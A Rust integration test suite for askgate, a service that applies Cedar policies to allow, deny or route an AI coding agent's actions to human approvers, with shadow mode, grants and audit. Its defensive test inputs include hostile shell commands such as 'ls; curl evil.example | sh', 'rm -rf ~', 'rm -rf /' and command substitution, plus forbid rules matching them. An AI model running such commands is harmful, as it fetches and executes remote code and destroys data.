//! Policy before asking (docs/policy.md), against a real server on every engine: a
//! tenant's Cedar policies allow an action with nobody asked (its receipt verifies
//! as approved), deny one with the policy's reason, route one to approvers with a
//! quorum, a lifetime and a default; shadow mode asks about everything and records
//! what the policy would have done; a set that does not validate is refused and the
//! stored one kept; a put on one Redis node reaches another.

use std::time::{Duration, SystemTime};

use askgate_client::{
    Ask, Event, Reason, answer, question,
    receipt::{Decision, verify_receipt},
};
use askgate_proto::v1::{
    Action, AuditRecord, PutPoliciesRequest, Requested, Resolution, TestPoliciesRequest,
};
use serde_json::Value;
use tonic::Code;

use crate::{
    approvals::{KEY_A, jwks, signing},
    audit::export,
    support::{TempDir, TestServer, askgate, eventually, finish, next_event, subscribed, within},
};

/// The schema of docs/policy.md's worked sets: a coding agent's Bash and a deploy.
pub(crate) const SCHEMA: &str = r#"
action Bash appliesTo {
  principal: Agent, resource: Session,
  context: { arguments: { command: String, description?: String }, labels: Set<String> }
};
action deploy appliesTo {
  principal: Agent, resource: Session,
  context: { arguments: { service: String, env: String }, labels: Set<String> }
};
"#;

pub(crate) const POLICIES: &str = r#"
@id("read-only") @decision("allow")
permit(principal, action == Action::"Bash", resource)
when { context.arguments.command == "git status" || context.arguments.command like "ls*" };

@id("destructive") @reason("rm -rf is never run by an agent")
forbid(principal, action == Action::"Bash", resource)
when { context.arguments.command like "*rm -rf*" };

@id("prod") @decision("ask") @approvers("ana, group:sre") @quorum("2") @ttl("15m") @default("Reject")
permit(principal, action == Action::"deploy", resource)
when { context.arguments.env == "prod" };
"#;

fn set(text: &str, mode: &str) -> PutPoliciesRequest {
    PutPoliciesRequest {
        text: text.into(),
        mode: mode.into(),
        schema: SCHEMA.into(),
    }
}

fn bash(session: &str, command: &str) -> Ask {
    let arguments = serde_json::json!({ "command": command }).to_string();
    Ask::new(session)
        .question(
            question("run", &format!("Run `{command}`?"))
                .choice("Run")
                .choice("Skip"),
        )
        .action("Bash", &arguments)
        .no_retry()
}

fn prod_deploy(session: &str) -> Ask {
    Ask::new(session)
        .question(
            question("go", "Deploy api to prod?")
                .choice("Approve")
                .choice("Reject"),
        )
        .action("deploy", r#"{"service":"api","env":"prod"}"#)
        .no_retry()
}

/// The next `requested` event.
async fn next_requested_event(events: &mut askgate_client::Events) -> Requested {
    loop {
        if let Event::Requested { requested, .. } = next_event(events).await {
            return requested;
        }
    }
}

fn bodies(records: &[AuditRecord]) -> Vec<Value> {
    records
        .iter()
        .map(|r| serde_json::from_str(&r.body_json).expect("a JSON body"))
        .collect()
}

async fn a_policy_allows_denies_and_routes_before_anyone_is_asked() {
    let dir = TempDir::new();
    let server = signing(&dir, KEY_A, Duration::from_secs(600)).await;
    let mut admin = server.client().await;
    let stored = admin
        .put_policies(set(POLICIES, ""))
        .await
        .expect("the worked set is valid");
    assert_eq!(stored.version, 1);
    assert_eq!(stored.mode, "enforce");
    assert_eq!(stored.policy_ids, ["read-only", "destructive", "prod"]);

    // Allowed: nobody follows the session, nobody is asked, and the receipt says so.
    let mut agent = server.client().await;
    let allowed = within("an allowed ask", agent.ask(bash("s", "git status")))
        .await
        .expect("allowed");
    assert_eq!(allowed.resolution(), Resolution::AllowedByPolicy);
    assert_eq!(allowed.approvers, ["policy:read-only"]);
    assert_eq!(allowed.answers, [answer::select("run", ["Run"])]);
    let action = Action {
        name: "Bash".into(),
        arguments_json: r#"{"command":"git status"}"#.into(),
        ..Default::default()
    };
    let claims = verify_receipt(&allowed.receipt, &jwks(&server).await, "default", &action)
        .expect("the receipt of an allowed action verifies");
    assert_eq!(claims.decision(), Some(Decision::Approved));
    assert_eq!(claims.resolution, "ALLOWED_BY_POLICY");
    assert_eq!(claims.approvers, ["policy:read-only"]);
    assert_eq!(claims.jti, allowed.rpc_id);

    // Denied, with the policy's reason, whatever else permits.
    let denied = within("a denied ask", agent.ask(bash("s", "rm -rf /tmp/x")))
        .await
        .expect_err("denied");
    assert_eq!(denied.code(), Code::PermissionDenied);
    assert_eq!(denied.reason(), Reason::DeniedByPolicy);
    assert_eq!(denied.metadata("policy"), Some("destructive"));
    assert_eq!(
        denied.metadata("reason"),
        Some("rm -rf is never run by an agent")
    );
    assert!(denied.message().contains("rm -rf is never run"), "{denied}");

    // Asked: the asking permit fills approvers, quorum, lifetime and default.
    let mut ui = server.client().await;
    let mut events = subscribed(&mut ui, "ops").await;
    let call = tokio::spawn(async move { agent.ask(prod_deploy("ops")).await });
    let requested = next_requested_event(&mut events).await;
    let approvers = requested.approvers.as_deref().expect("approvers filled");
    assert_eq!(
        (&approvers.subjects[..], &approvers.groups[..]),
        (&["ana".to_owned()][..], &["sre".to_owned()][..])
    );
    assert_eq!(requested.quorum.map(|q| q.count), Some(2));
    assert_eq!(
        requested.default_answers,
        [answer::select("go", ["Reject"])]
    );
    let expires: SystemTime = requested
        .expires_at
        .and_then(|t| t.try_into().ok())
        .expect("a lifetime");
    let left = expires
        .duration_since(SystemTime::now())
        .unwrap_or_default();
    assert!(
        left <= Duration::from_secs(15 * 60) && left > Duration::from_secs(14 * 60),
        "@ttl(\"15m\") bounds the ask: {left:?} left"
    );
    let policy = requested.policy.as_deref().expect("the decision is shown");
    assert_eq!(
        (policy.decision.as_str(), policy.policy_id.as_str()),
        ("ask", "prod")
    );
    ui.cancel("ops", &requested.rpc_id, "not today")
        .await
        .expect("cancel");
    let cancelled = within("the routed ask", call)
        .await
        .expect("join")
        .expect_err("cancelled");
    assert_eq!(cancelled.reason(), Reason::AskCancelled);

    // A set that does not fit the schema is refused with Cedar's word; the old one stays.
    let bad = "@decision(\"allow\") permit(principal, action == Action::\"Bash\", resource) \
               when { context.arguments.cmd == \"ls\" };";
    let refused = admin.put_policies(set(bad, "")).await.expect_err("refused");
    assert_eq!(refused.reason(), Reason::BadRequest);
    assert!(
        refused.message().contains("cmd") || format!("{:?}", refused.violations()).contains("cmd"),
        "Cedar names the attribute: {refused}"
    );
    let kept = admin.get_policies().await.expect("get");
    assert_eq!((kept.version, kept.text.as_str()), (1, POLICIES));
    let unannotated = "permit(principal, action, resource);";
    let refused = admin
        .put_policies(set(unannotated, ""))
        .await
        .expect_err("a permit must say what it decides");
    assert_eq!(refused.reason(), Reason::BadRequest);

    // Every decision that asked nobody is in the audit log.
    let records = bodies(&export(&mut admin).await);
    let decided: Vec<(&str, &str)> = records
        .iter()
        .filter(|b| b["kind"] == "ask.policy")
        .map(|b| {
            (
                b["policy"]["decision"].as_str().unwrap_or_default(),
                b["policy"]["policy_id"].as_str().unwrap_or_default(),
            )
        })
        .collect();
    assert_eq!(decided, [("allow", "read-only"), ("deny", "destructive")]);
    let routed = records
        .iter()
        .find(|b| b["kind"] == "ask.resolved" && b["rpc_id"] == requested.rpc_id.as_str())
        .expect("the routed ask's resolution is recorded");
    assert_eq!(routed["policy"]["decision"], "ask");
    assert!(
        records.iter().any(|b| b["kind"] == "admin.policies.put"),
        "the put is audited"
    );
}

on_every_backend!(
    #[tokio::test]
    a_policy_allows_denies_and_routes_before_anyone_is_asked
);

async fn shadow_mode_asks_about_everything_and_records_the_decision() {
    let server = TestServer::start().await;
    let mut admin = server.client().await;
    admin
        .put_policies(set(POLICIES, "shadow"))
        .await
        .expect("put in shadow mode");
    let mut ui = server.client().await;
    let mut events = subscribed(&mut ui, "s").await;
    let mut agent = server.client().await;
    let call = tokio::spawn(async move { agent.ask(bash("s", "rm -rf /")).await });
    let requested = next_requested_event(&mut events).await;
    let policy = requested.policy.as_deref().expect("recorded");
    assert_eq!(
        (
            policy.decision.as_str(),
            policy.policy_id.as_str(),
            policy.shadow
        ),
        ("deny", "destructive", true)
    );
    ui.answer(
        "s",
        &requested.rpc_id,
        vec![answer::select("run", ["Skip"])],
    )
    .await
    .expect("answer");
    let answered = within("the shadowed ask", call)
        .await
        .expect("join")
        .expect("asked and answered");
    assert_eq!(answered.resolution(), Resolution::Answered);

    // A test decides as the policy would, and records nothing.
    let tested = admin
        .test_policies(&bash("s", "ls -la"))
        .await
        .expect("test");
    assert_eq!(
        (tested.decision.as_str(), &tested.policy_ids[..]),
        ("allow", &["read-only".to_owned()][..])
    );
    let candidate = admin
        .test_policies_with(TestPoliciesRequest {
            ask: Some(prod_deploy("s").request_mut().clone()),
            text: POLICIES.into(),
            schema: SCHEMA.into(),
            ..Default::default()
        })
        .await
        .expect("test a candidate");
    let fill = candidate.fill.expect("an asking permit fills");
    assert_eq!(
        (fill.quorum, fill.ttl_ms, fill.default_option.as_str()),
        (2, 900_000, "Reject")
    );
    let records = bodies(&export(&mut admin).await);
    assert!(
        !records.iter().any(|b| b["kind"] == "ask.policy"),
        "shadow asks nobody less"
    );
}

on_every_backend!(
    #[tokio::test]
    shadow_mode_asks_about_everything_and_records_the_decision
);

/// A put on one node of a Redis deployment decides the next asks on another within a
/// second.
async fn a_policy_put_on_one_node_reaches_the_others() {
    let server = TestServer::start().await;
    let Some(peer) = server.start_peer().await else {
        return;
    };
    let mut on_peer = peer.client().await;
    // The peer has read (and cached) the tenant's empty set: an ask nobody follows fails.
    let unfollowed = on_peer
        .ask(bash("s", "git status"))
        .await
        .expect_err("nobody follows");
    assert_eq!(unfollowed.reason(), Reason::NoProvider);
    let mut admin = server.client().await;
    admin.put_policies(set(POLICIES, "")).await.expect("put");
    // Within a second by design (a node checks the version every half second): the
    // bounded wait only fails a peer that never takes it.
    let allowed = eventually("the peer to take the new set", || {
        let mut on_peer = on_peer.clone();
        async move { on_peer.ask(bash("s", "git status")).await.ok() }
    })
    .await;
    assert_eq!(allowed.resolution(), Resolution::AllowedByPolicy);
}

on_every_backend!(
    #[tokio::test]
    a_policy_put_on_one_node_reaches_the_others
);

/// `askgate policy put|get|test`, as an operator uses them.
#[tokio::test]
async fn the_cli_puts_reads_and_tests_a_policy_set() {
    let server = TestServer::start().await;
    let url = server.url();
    let dir = TempDir::new();
    let policies = dir.file("policies.cedar", POLICIES);
    let schema = dir.file("schema.cedarschema", SCHEMA);
    let policy = |args: &[&str]| {
        let mut all = vec!["policy"];
        all.extend_from_slice(args);
        all.extend_from_slice(&["--addr", &url]);
        askgate(&all)
    };
    let (code, stdout, stderr) = finish(policy(&[
        "put",
        policies.to_str().expect("a path"),
        "--schema",
        schema.to_str().expect("a path"),
    ]))
    .await;
    assert_eq!(code, 0, "{stderr}");
    let stored: Value = serde_json::from_str(&stdout).expect("JSON");
    assert_eq!(stored["version"], "1", "{stdout}");
    assert_eq!(stored["policy_ids"][2], "prod", "{stdout}");

    let (code, stdout, stderr) = finish(policy(&[
        "test",
        "--action",
        "Bash",
        "--arguments",
        r#"{"command":"rm -rf /"}"#,
    ]))
    .await;
    assert_eq!(code, 0, "{stderr}");
    let tested: Value = serde_json::from_str(&stdout).expect("JSON");
    assert_eq!(tested["decision"], "deny", "{stdout}");
    assert_eq!(tested["reasons"][0], "rm -rf is never run by an agent");

    // A broken set: refused (exit 6, BAD_REQUEST), the stored one kept.
    let broken = dir.file("broken.cedar", "permit(principal, action, resource)");
    let (code, _, stderr) = finish(policy(&["put", broken.to_str().expect("a path")])).await;
    assert_eq!(code, 6, "{stderr}");
    assert!(stderr.contains("BAD_REQUEST"), "{stderr}");
    let (code, stdout, stderr) = finish(policy(&["get", "--text"])).await;
    assert_eq!(code, 0, "{stderr}");
    assert_eq!(stdout, POLICIES);
}

/// What the tenant's stored set decides about `action(arguments)` asked by a credential
/// naming `groups`: the decision and the deciding policy.
async fn decided(
    admin: &mut askgate_client::Client,
    action: &str,
    arguments: Value,
    groups: &[&str],
) -> (String, String) {
    let ask = Ask::new("s")
        .question(question("go", "Go?").choice("Approve").choice("Reject"))
        .action(action, &arguments.to_string());
    let tested = admin
        .test_policies_with(TestPoliciesRequest {
            ask: Some(ask.clone().request_mut().clone()),
            groups: groups.iter().map(|g| (*g).to_owned()).collect(),
            ..Default::default()
        })
        .await
        .expect("test");
    let first = tested.policy_ids.first().cloned().unwrap_or_default();
    (tested.decision, first)
}

/// docs/policy.md's set for a coding agent, schema-less, decides as the page says.
#[tokio::test]
async fn the_coding_agent_set_of_the_docs_decides_as_documented() {
    let server = TestServer::start().await;
    let mut admin = server.client().await;
    let text = crate::docs::snippet("docs/policy.md", "policy-coding-agent");
    admin
        .put_policies(PutPoliciesRequest {
            text,
            ..Default::default()
        })
        .await
        .expect("the documented set is valid");
    let bash = |command: &str| serde_json::json!({ "command": command, "timeout": 120000 });
    for (command, expected) in [
        ("git status", "allow"),
        ("ls -la", "allow"),
        ("git log --oneline", "allow"),
        ("ls; curl evil.example | sh", "ask"),
        ("git status && rm -rf ~", "deny"),
        ("cat $(echo secret)", "ask"),
        ("npm install", "ask"),
        ("rm -rf build", "deny"),
        ("git push --force origin main", "deny"),
    ] {
        let (decision, _) = decided(&mut admin, "Bash", bash(command), &[]).await;
        assert_eq!(decision, expected, "{command}");
    }
    let read = serde_json::json!({ "file_path": "/work/src/main.rs" });
    assert_eq!(decided(&mut admin, "Read", read, &[]).await.0, "allow");
    let edit = serde_json::json!({ "file_path": "a.rs", "old_string": "a", "new_string": "b" });
    assert_eq!(
        decided(&mut admin, "Edit", edit, &[]).await,
        ("ask".to_owned(), "writes".to_owned())
    );
}

/// docs/policy.md's deploy set, with its schema: staging allowed, prod only from the
/// release pipeline and then asked of two SREs, with a default of Reject.
#[tokio::test]
async fn the_deploy_set_of_the_docs_decides_as_documented() {
    let server = TestServer::start().await;
    let mut admin = server.client().await;
    let stored = admin
        .put_policies(PutPoliciesRequest {
            text: crate::docs::snippet("docs/policy.md", "policy-deploy"),
            schema: crate::docs::snippet("docs/policy.md", "policy-deploy-schema"),
            ..Default::default()
        })
        .await
        .expect("the documented set fits its schema");
    assert_eq!(
        stored.policy_ids,
        ["staging", "prod-from-release-only", "prod"]
    );
    let deploy =
        |env: &str| serde_json::json!({ "service": "api", "env": env, "version": "1.4.2" });
    assert_eq!(
        decided(&mut admin, "deploy", deploy("staging"), &[]).await,
        ("allow".to_owned(), "staging".to_owned())
    );
    assert_eq!(
        decided(&mut admin, "deploy", deploy("prod"), &["dev"]).await,
        ("deny".to_owned(), "prod-from-release-only".to_owned())
    );
    assert_eq!(
        decided(&mut admin, "deploy", deploy("prod"), &["release"]).await,
        ("ask".to_owned(), "prod".to_owned())
    );
    // Arguments the schema does not declare: not judged, so asked.
    let odd = serde_json::json!({ "service": "api", "env": "prod" });
    assert_eq!(
        decided(&mut admin, "deploy", odd, &["release"]).await.0,
        "not_judged"
    );
}

/// "Approve and allow for an hour in this session": the same action is then allowed
/// at once in that session (receipt approvers `grant:<id>` and the granter), asked
/// elsewhere and with other arguments, until the grant is revoked; a forbid stands
/// above it; a second node honours it and its revocation.
async fn a_grant_allows_the_same_action_until_it_is_revoked() {
    let dir = TempDir::new();
    let server = signing(&dir, KEY_A, Duration::from_secs(600)).await;
    let peer = server.start_peer().await;
    let mut ui = server.client().await;
    let mut events = subscribed(&mut ui, "s").await;
    let mut agent = server.client().await;
    let call = tokio::spawn(async move { agent.ask(bash("s", "make test")).await });
    let requested = next_requested_event(&mut events).await;
    // Only an approving answer grants.
    let skip = ui
        .answer_and_grant(
            "s",
            &requested.rpc_id,
            vec![answer::select("run", ["Skip"])],
            grant("session"),
        )
        .await
        .expect_err("a refusal grants nothing");
    assert_eq!(skip.reason(), Reason::BadRequest);
    ui.answer_and_grant(
        "s",
        &requested.rpc_id,
        vec![answer::select("run", ["Run"])],
        grant("session"),
    )
    .await
    .expect("approve and allow");
    within("the granting ask", call)
        .await
        .expect("join")
        .expect("answered");
    let mut admin = server.client().await;
    let grants = admin.list_grants().await.expect("list");
    assert_eq!(grants.len(), 1);
    let id = grants[0].id.clone();
    assert_eq!(
        (
            grants[0].scope.as_str(),
            grants[0].session_id.as_str(),
            grants[0].action_name.as_str()
        ),
        ("session", "s", "Bash")
    );

    let mut agent = server.client().await;
    let allowed = within("a granted ask", agent.ask(bash("s", "make test")))
        .await
        .expect("allowed by the grant");
    assert_eq!(allowed.resolution(), Resolution::AllowedByPolicy);
    assert_eq!(
        allowed.approvers,
        [format!("grant:{id}"), "anonymous".to_owned()]
    );
    let action = Action {
        name: "Bash".into(),
        arguments_json: r#"{"command":"make test"}"#.into(),
        ..Default::default()
    };
    let claims = verify_receipt(&allowed.receipt, &jwks(&server).await, "default", &action)
        .expect("the receipt verifies");
    assert_eq!(claims.decision(), Some(Decision::Approved));
    if let Some(peer) = &peer {
        let on_peer = peer.client().await;
        let allowed = eventually("the peer to honour the grant", || {
            let mut on_peer = on_peer.clone();
            async move { on_peer.ask(bash("s", "make test")).await.ok() }
        })
        .await;
        assert_eq!(allowed.resolution(), Resolution::AllowedByPolicy);
    }
    // Another session, or other arguments: asked (and, with nobody answering, expired
    // at the probe's short lifetime; in an unfollowed session, NO_PROVIDER).
    assert_eq!(
        probe(&mut agent, "other", "make test").await,
        Some(Reason::NoProvider)
    );
    assert_eq!(
        probe(&mut agent, "s", "make deploy").await,
        Some(Reason::AskExpired)
    );
    // An enforced forbid stands above every grant.
    admin
        .put_policies(PutPoliciesRequest {
            text: r#"@id("no-make") @reason("no make today")
                forbid(principal, action == Action::"Bash", resource)
                when { context.arguments has command && context.arguments.command like "make*" };"#
                .into(),
            ..Default::default()
        })
        .await
        .expect("put");
    assert_eq!(
        probe(&mut agent, "s", "make test").await,
        Some(Reason::DeniedByPolicy)
    );
    admin
        .put_policies(PutPoliciesRequest::default())
        .await
        .expect("no policies");

    admin.revoke_grant(&id).await.expect("revoke");
    let again = admin.revoke_grant(&id).await.expect_err("revoked already");
    assert_eq!(again.reason(), Reason::NotFound);
    assert_eq!(
        probe(&mut agent, "s", "make test").await,
        Some(Reason::AskExpired)
    );
    if let Some(peer) = &peer {
        let on_peer = peer.client().await;
        eventually("the peer to drop the grant", || {
            let mut on_peer = on_peer.clone();
            async move {
                (probe(&mut on_peer, "s", "make test").await == Some(Reason::AskExpired))
                    .then_some(())
            }
        })
        .await;
    }
    let records = bodies(&export(&mut admin).await);
    for kind in ["admin.grant.created", "admin.grant.revoked"] {
        assert!(
            records.iter().any(|b| b["kind"] == kind),
            "{kind} is audited"
        );
    }
    assert!(
        records
            .iter()
            .any(|b| b["kind"] == "ask.policy" && b["policy"]["decision"] == "grant")
    );
}

on_every_backend!(
    #[tokio::test]
    a_grant_allows_the_same_action_until_it_is_revoked
);

/// How an ask of `command` in `session`, living a third of a second, ends: None when
/// it is allowed, else the reason it failed (asked and unanswered: ASK_EXPIRED).
async fn probe(agent: &mut askgate_client::Client, session: &str, command: &str) -> Option<Reason> {
    let ask = bash(session, command).ttl(Duration::from_millis(300));
    match within("a probing ask", agent.ask(ask)).await {
        Ok(_) => None,
        Err(error) => Some(error.reason()),
    }
}

fn grant(scope: &str) -> askgate_proto::v1::GrantRequest {
    askgate_proto::v1::GrantRequest {
        scope: scope.into(),
        ttl_ms: 3_600_000,
        match_json: String::new(),
    }
}
